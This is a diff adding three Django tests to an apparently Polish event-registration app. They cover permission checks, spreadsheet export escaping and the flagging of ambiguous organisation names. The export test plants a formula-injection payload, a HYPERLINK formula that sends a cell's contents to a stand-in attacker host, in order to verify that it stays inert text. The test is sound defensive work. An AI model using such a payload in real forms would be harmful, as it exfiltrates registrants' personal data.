@@ -299,3 +299,42 @@ def test_the_signature_list_is_a_pdf(admin_client, staffed):
     training, _registrations = staffed
     response = admin_client.get(reverse("activities:staff_signature_list", args=[training.slug, 1]))
     assert response["Content-Type"] == "application/pdf" and response.content.startswith(b"%PDF-")
+
+
+def test_a_staff_account_without_the_permission_cannot_read_registrations(client, staffed):
+    training, _registrations = staffed
+    clerk = get_user_model().objects.create_user("sekretariat", password="x", is_staff=True)
+    client.force_login(clerk)
+    for url in [
+        reverse("activities:staff_event", args=[training.slug]),
+        reverse("activities:staff_registrations_xlsx", args=[training.slug]),
+        reverse("activities:staff_checkin", args=[training.slug, 1]),
+    ]:
+        assert client.get(url).status_code == 403, url
+
+
+def test_a_formula_typed_in_the_public_form_stays_text_in_the_export(admin_client, calendar):
+    register(calendar["training"], 1, first_name='=HYPERLINK("http://zly.example/?x="&D2,"Otwórz")')
+    response = admin_client.get(
+        reverse("activities:staff_registrations_xlsx", args=[calendar["training"].slug])
+    )
+    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B2"]
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
+
+
+def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(client, calendar):
+    OrganisationFactory(name="Gmina Świdnica")
+    OrganisationFactory(name="Gmina Świdnica")
+    client.post(
+        reverse("activities:register", args=[calendar["training"].slug]),
+        {
+            "first_name": "Jan",
+            "last_name": "K",
+            "email": "j@example.org",
+            "organisation": "GMINA ŚWIDNICA",
+            "language": "pl",
+            "consent": "on",
+        },
+    )
+    registration = Registration.objects.get()
+    assert registration.organisation is None and registration.needs_review
